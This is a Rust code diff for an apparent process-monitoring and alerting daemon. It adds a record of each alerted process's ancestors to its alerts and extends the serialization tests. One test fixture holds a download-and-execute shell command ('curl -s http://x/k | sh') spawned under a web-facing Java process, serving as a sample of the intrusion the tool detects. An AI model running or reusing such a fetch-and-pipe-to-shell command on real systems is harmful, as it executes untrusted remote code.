@@ -14,7 +14,7 @@ use std::time::Duration;
 
 use serde::{Deserialize, Serialize};
 
-use crate::detect::{Rule, Severity, Verdict};
+use crate::detect::{ChainLink, Rule, Severity, Verdict};
 use crate::event::{ProvenanceVerdict, Reason};
 use crate::sinks::config::AlertsConfig;
 use crate::sinks::metrics::Metrics;
@@ -118,6 +118,14 @@ pub struct AlertRecord {
     /// Other processes the alert covers (workers, the rest of the tree or
     /// cgroup); the response acts on them too.
     pub members: Vec<u32>,
+    /// The process's ancestors, oldest first: what started it. Exited
+    /// ancestors are kept for `detector.chain.retain_exited_secs`.
+    #[serde(default)]
+    pub chain: Vec<AlertChainLink>,
+    /// Only the nearest `detector.chain.max_depth` ancestors are listed;
+    /// omitted when the chain is complete.
+    #[serde(default, skip_serializing_if = "std::ops::Not::not")]
+    pub chain_truncated: bool,
     /// Observe mode: what the response would have done (`kill 1234`, …).
     pub would: Vec<String>,
     /// Enforce mode: what the response did.
@@ -144,6 +152,62 @@ pub struct AlertProvenance {
     /// allowlist.
     #[serde(default, skip_serializing_if = "Option::is_none")]
     pub vouched_by: Option<crate::event::VouchedBy>,
+}
+
+/// One ancestor in an alert's `chain`.
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct AlertChainLink {
+    pub pid: u32,
+    /// Kernel command name (set by the process itself).
+    pub comm: String,
+    /// Absolute executable path if known, else the path given to execve.
+    pub exe: Option<String>,
+    /// Leading arguments, at most `detector.chain.argv_max_bytes` bytes.
+    pub argv: Vec<String>,
+    /// `argv` was cut (by the bound, or by the kernel's capture limit).
+    pub argv_truncated: bool,
+    /// Real user id.
+    pub uid: u32,
+    /// Process start, RFC 3339 UTC with milliseconds.
+    pub start: String,
+    /// It had exited when the alert was made.
+    pub exited: bool,
+    /// It listened on a TCP socket (`listen(2)` seen, inherited at fork,
+    /// or held at the daemon's start): a network-facing service.
+    pub listening: bool,
+    /// Its listening addresses (`127.0.0.1:8080`, `[::]:22`), where known.
+    pub listen: Vec<String>,
+    /// Known from the start-up sweep of /proc, not from its fork: its place
+    /// in the chain is /proc's parent at start (a re-parented process shows
+    /// init instead of the shell that started it).
+    pub best_effort: bool,
+}
+
+impl AlertChainLink {
+    pub fn from_link(l: &ChainLink, clock: &WallClock) -> AlertChainLink {
+        let start = if l.start_boottime_ns != 0 {
+            clock.boottime_to_mono(l.start_boottime_ns)
+        } else {
+            l.start_time
+        };
+        AlertChainLink {
+            pid: l.pid,
+            comm: l.comm.clone(),
+            exe: l.exe.clone(),
+            argv: l.argv.clone(),
+            argv_truncated: l.argv_truncated,
+            uid: l.uid,
+            start: clock.rfc3339(start),
+            exited: l.exited.is_some(),
+            listening: l.listening,
+            listen: l
+                .listen
+                .iter()
+                .map(|&(ip, port)| std::net::SocketAddr::new(ip, port).to_string())
+                .collect(),
+            best_effort: l.best_effort,
+        }
+    }
 }
 
 #[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
@@ -197,6 +261,12 @@ impl AlertRecord {
                 .collect(),
             latency_ms: v.latency_ms,
             members: v.members.clone(),
+            chain: v
+                .chain
+                .iter()
+                .map(|l| AlertChainLink::from_link(l, clock))
+                .collect(),
+            chain_truncated: v.chain_truncated,
             would: Vec::new(),
             actions: Vec::new(),
             footholds: Vec::new(),
@@ -471,6 +541,37 @@ pub(crate) mod tests {
             }],
             latency_ms: 500,
             members: vec![4250],
+            chain: vec![
+                ChainLink {
+                    pid: 900,
+                    comm: "java".into(),
+                    exe: Some("/usr/lib/jvm/java-17/bin/java".into()),
+                    argv: vec!["java".into(), "-jar".into(), "app.jar".into()],
+                    argv_truncated: false,
+                    uid: 33,
+                    start_boottime_ns: 0,
+                    start_time: Mono::from_secs(1),
+                    exited: None,
+                    listening: true,
+                    listen: vec![("::".parse().expect("ip"), 8080)],
+                    best_effort: true,
+                },
+                ChainLink {
+                    pid: 4200,
+                    comm: "sh".into(),
+                    exe: Some("/usr/bin/dash".into()),
+                    argv: vec!["sh".into(), "-c".into(), "curl -s http://x/k | sh".into()],
+                    argv_truncated: true,
+                    uid: 33,
+                    start_boottime_ns: 0,
+                    start_time: Mono::from_secs(11),
+                    exited: Some(Mono::from_secs(11)),
+                    listening: false,
+                    listen: vec![],
+                    best_effort: false,
+                },
+            ],
+            chain_truncated: false,
         }
     }
 
@@ -531,10 +632,33 @@ pub(crate) mod tests {
                 "evidence",
                 "latency_ms",
                 "members",
+                "chain",
                 "would",
                 "actions"
             ]
         );
+        assert_eq!(
+            top_level_keys(&serde_json::to_string(&rec.chain[0]).expect("link")),
+            [
+                "pid",
+                "comm",
+                "exe",
+                "argv",
+                "argv_truncated",
+                "uid",
+                "start",
+                "exited",
+                "listening",
+                "listen",
+                "best_effort"
+            ]
+        );
+        assert_eq!(v["chain"][0]["listen"], serde_json::json!(["[::]:8080"]));
+        assert_eq!(v["chain"][0]["listening"], true);
+        assert_eq!(v["chain"][0]["best_effort"], true);
+        assert_eq!(v["chain"][1]["exited"], true);
+        assert_eq!(v["chain"][1]["start"], clock.rfc3339(Mono::from_secs(11)));
+        assert!(v.get("chain_truncated").is_none(), "only when cut");
         assert_eq!(v["kind"], "alert");
         assert_eq!(v["rule"], "pool_protocol_unverified");
         assert_eq!(v["severity"], "critical");
